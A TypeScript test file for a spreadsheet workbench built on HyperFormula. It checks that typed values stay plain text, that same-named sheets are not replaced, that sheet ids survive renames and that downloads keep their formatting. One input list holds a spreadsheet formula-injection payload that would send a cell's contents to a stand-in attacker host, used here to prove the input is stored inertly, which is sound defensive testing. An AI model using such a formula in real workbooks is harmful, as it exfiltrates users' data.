/*
 * The workbench's implementation of the task pane's workbook interface, on a real HyperFormula:
 * the same promises as Excel's (text stays text, a taken name is refused, sheets known by id).
 */
import fc from "fast-check";
import { HyperFormula } from "hyperformula";
import { reportTable } from "../../src/core";
import { ENGINE_CONFIG } from "../../src/spreadsheet/engine";
import { WorkbenchDocument, workbenchHost } from "../../src/workbench/workbench-host";
import { assumptionsSheet, scenarioSheet, SCENARIOS, SheetDefinition } from "../../src/template/planner";
import ExcelJS from "exceljs";
import { TEMPLATE_PATH } from "../../scripts/build-template";
import { engineSheets } from "../../src/spreadsheet/xlsx-saved-sheets";
import { saveInto } from "../../src/workbench/xlsx-write";
import { lookInFile } from "../support/look";
import { tableLook } from "../../src/template/styles";

function open(sheets: Record<string, unknown[][]>, active: string): { doc: WorkbenchDocument; changes: boolean[] } {
  const hf = HyperFormula.buildFromSheets(sheets as never, { licenseKey: ENGINE_CONFIG.licenseKey });
  return { doc: { hf, formats: {}, sheet: active, selection: "B2" }, changes: [] };
}

function hostOn(book: { doc: WorkbenchDocument; changes: boolean[] }) {
  return workbenchHost(() => book.doc, { changed: (switched) => book.changes.push(switched) }, () => "en");
}

describe("workbenchHost", () => {
  it("writes what the user typed as text, never a formula, number, boolean or date", async () => {
    const book = open({ Growth: [["Stage 阶段", "growth"]], Notes: [] }, "Growth");
    const host = hostOn(book);
    const typed = ["=1+1", '=WEBSERVICE("http://evil.example/?"&Growth!B1)', "10%", "TRUE", "#N/A", "2026-01-01", "'quoted", "+86 138", "  0012"];
    const report = await host.writeTable({ name: "Minefields - Growth" }, [["Note"], ...typed.map((t) => [t])]);
    const [values] = await host.readRanges([`'${report.name}'!A1:A${typed.length + 1}`]);
    expect(values.map((row) => row[0])).toEqual(["Note", ...typed]);
    const id = Number(report.id);
    for (let r = 0; r <= typed.length; r++) expect(book.doc.hf.doesCellHaveFormula({ sheet: id, row: r, col: 0 })).toBe(false);
  });

  it("writes the report with the widths, wrapping and frozen header the pane gives it in Excel (tableLook), and the download keeps them", async () => {
    const book = open({ Growth: [["Stage 阶段", "growth"]] }, "Growth");
    const host = hostOn(book);
    const table = reportTable({ 2: { status: "risk", note: "x".repeat(200), checkedOn: "2026-11-22" } }, { 2: "cap 547,756" }, "zh");
    const report = await host.writeTable({ name: "Minefields - Growth" }, table);
    const look = tableLook(table);
    expect(book.doc.looks?.[report.name]).toEqual(look);
    expect(Math.max(...look.widths)).toBe(60);
    expect(Math.min(...look.widths)).toBeGreaterThanOrEqual(10);
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet("Growth");
    saveInto(workbook, engineSheets(book.doc.hf, book.doc.formats, [], book.doc.looks ?? {}));
    const ws = workbook.getWorksheet(report.name)!;
    look.widths.forEach((width, c) => expect([c, ws.getColumn(c + 1).width]).toEqual([c, width]));
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(ws.getCell("A2").alignment).toMatchObject({ wrapText: true, vertical: "top" });
    expect(ws.getCell("A1").font).toMatchObject({ bold: true });
  });

  it("property: any text written comes back as the same text", async () => {
    const book = open({ Growth: [] }, "Growth");
    const host = hostOn(book);
    let target: { id?: string; name: string } = { name: "Report" };
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(fc.string(), fc.constantFrom("=", "==A1", "=SUM(1,2)", "1e5", "-1", "50%", "$5", "FALSE", "#DIV/0!", "1/2/2026")), { minLength: 1, maxLength: 8 }), async (texts) => {
        target = await host.writeTable(target, [texts]);
        const [values] = await host.readRanges([`${target.name}!A1:${String.fromCharCode(64 + texts.length)}1`]);
        expect(values[0].map((v) => (v === null ? "" : v))).toEqual(texts);
      }),
      { numRuns: 200 },
    );
  });

  it("never replaces a sheet whose name differs only in case; rewrites its own by id", async () => {
    const book = open({ assumptions: [["my own", 1]], Minefields: [["mine"]], "scenario 1": [["mine too"]] }, "Minefields");
    const host = hostOn(book);
    await expect(host.addSheet(assumptionsSheet())).rejects.toMatchObject({ code: "SHEET_EXISTS", detail: "Assumptions" });
    await expect(host.addSheet(scenarioSheet({ ...SCENARIOS[1], name: "Scenario 1" }))).rejects.toMatchObject({ code: "SHEET_EXISTS" });
    await expect(host.writeTable({ name: "MINEFIELDS" }, reportTable({}, {}, "en"))).rejects.toMatchObject({ code: "SHEET_EXISTS" });
    await expect(host.writeTable({ id: "99", name: "minefields" }, reportTable({}, {}, "en"))).rejects.toMatchObject({ code: "SHEET_EXISTS" });
    expect(book.doc.hf.getSheetNames()).toEqual(["assumptions", "Minefields", "scenario 1"]);
    expect((await host.readRanges(["assumptions!A1:B1", "Minefields!A1", "'scenario 1'!A1"])).map((v) => v[0][0])).toEqual(["my own", "mine", "mine too"]);
    // Its own report, by id, is rewritten in place — under whatever name the user gave it since.
    const report = await host.writeTable({ name: "Minefields - Growth" }, [["first"]]);
    book.doc.hf.renameSheet(Number(report.id), "Checked");
    const again = await host.writeTable(report, [["second"]]);
    expect(again).toEqual({ id: report.id, name: "Checked" });
    expect((await host.readRanges(["Checked!A1"]))[0][0][0]).toBe("second");
  });

  it("sheets keep their id through a rename", async () => {
    const book = open({ Growth: [[1]], Plan: [[2]] }, "Plan");
    const host = hostOn(book);
    const before = await host.activeSheet();
    book.doc.hf.renameSheet(Number(before.id), "Plan 2028");
    book.doc.sheet = "Plan 2028";
    expect(await host.activeSheet()).toEqual({ id: before.id, name: "Plan 2028" });
    expect((await host.sheets()).map((s) => s.id)).toContain(before.id);
  });

  it("adds a template sheet with its formulas computed and its text kept as text", async () => {
    const book = open({ Summary: [[]] }, "Summary");
    const host = hostOn(book);
    const added = await host.addSheet({ ...assumptionsSheet(), name: "Assumptions" });
    expect(added.name).toBe("Assumptions");
    expect(book.changes).toEqual([true]);
    expect(book.doc.sheet).toBe("Assumptions");
    const [[key]] = await host.readRanges(["Assumptions!A2"]);
    expect(key[0]).toBe("ref_spend");
  });

  it("answers belong to the opened workbook, never to its file name", async () => {
    const first = open({ Growth: [] }, "Growth");
    const second = open({ Growth: [] }, "Growth");
    await hostOn(first).saveSettings({ version: 2, sheets: [{ name: "Growth", answers: { 1: { status: "clear", note: "first file" } } }] });
    expect(await hostOn(second).loadSettings()).toBeUndefined();
    expect(await hostOn(first).loadSettings()).toMatchObject({ sheets: [{ name: "Growth" }] });
  });
});

describe("a sheet inserted in the workbench, downloaded", () => {
  it("looks like the shipped file's: fonts, fills, borders, alignment, number formats, widths and frozen panes", async () => {
    const shipped = new ExcelJS.Workbook();
    await shipped.xlsx.readFile(TEMPLATE_PATH);
    const book = open({ Summary: [["Spillsplit"]] }, "Summary");
    const host = hostOn(book);
    const pairs: [SheetDefinition, string][] = [
      [{ ...assumptionsSheet(), name: "Inserted assumptions" }, "Assumptions"],
      [scenarioSheet({ ...SCENARIOS[1], name: "Inserted growth" }), "Growth"],
    ];
    for (const [definition] of pairs) await host.addSheet(definition);
    // The download: into a workbook that lacks the inserted sheets, written and read back as a file.
    const saved = saveInto(new ExcelJS.Workbook(), engineSheets(book.doc.hf, book.doc.formats, [], book.doc.looks));
    const downloaded = new ExcelJS.Workbook();
    await downloaded.xlsx.load(await saved.xlsx.writeBuffer());
    let styled = 0;
    for (const [definition, inFile] of pairs) {
      const ws = downloaded.getWorksheet(definition.name)!;
      const file = shipped.getWorksheet(inFile)!;
      for (const address of Object.keys(definition.cells)) {
        const look = lookInFile(ws.getCell(address));
        expect([address, look]).toEqual([address, lookInFile(file.getCell(address))]);
        if (look.bold || look.fill || look.color) styled++;
      }
      definition.widths.forEach((_, i) => expect([i, ws.getColumn(i + 1).width]).toEqual([i, file.getColumn(i + 1).width]));
      expect(ws.views[0]).toMatchObject({ state: "frozen", xSplit: (file.views[0] as { xSplit?: number }).xSplit, ySplit: (file.views[0] as { ySplit?: number }).ySplit });
    }
    expect(styled).toBeGreaterThan(40);
    book.doc.hf.destroy();
  });
});
